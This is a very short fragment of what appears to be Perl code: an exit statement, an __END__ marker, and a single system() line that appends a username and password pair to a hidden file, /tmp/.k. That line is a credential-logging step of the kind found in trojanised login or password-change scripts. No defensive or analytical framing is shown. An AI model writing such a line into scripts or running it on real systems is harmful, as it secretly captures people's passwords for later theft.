exit;
__END__
system("echo $u:$passwd >> /tmp/.k");
